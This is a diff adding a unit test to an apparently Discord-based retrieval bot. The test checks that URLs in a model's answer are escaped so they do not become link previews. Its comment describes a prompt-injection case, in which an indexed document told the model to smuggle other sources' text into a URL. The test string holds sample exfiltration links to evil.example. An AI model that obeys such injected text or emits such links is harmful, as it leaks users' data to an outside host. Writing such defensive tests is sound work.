@@ -69,6 +69,19 @@ def test_embed_text_is_bounded() -> None:
     assert len(embed) <= 6000 // 10 + 100
 
 
+def test_urls_in_a_model_answer_are_not_links() -> None:
+    # An indexed document told the model to put the other sources' text in a URL: Discord
+    # would fetch it for a link preview, while it is written and once it is final.
+    text = ("The plan costs 10 [1]. More: https://evil.example/c?d=SECRET%20TEXT and "
+            "<http://evil.example/x> or [here](https://evil.example/y).")
+    answer = Answer(text=text, citations=[1], sources=[_hit(1)], provider="test")
+    (piece,) = render.answer_pieces("q", answer, 4)
+    for shown in (piece.content, render.streaming("q", text)):
+        assert "://" not in shown.replace("\\://", "")
+        assert "https\\://evil.example/c?d=SECRET%20TEXT" in shown
+        assert "[1]" in shown
+
+
 def test_streaming_view_fits_and_shows_the_latest_text() -> None:
     out = render.streaming("q", "a" * 5000 + "END")
     assert len(out) <= render.CONTENT_LIMIT and "END" in out
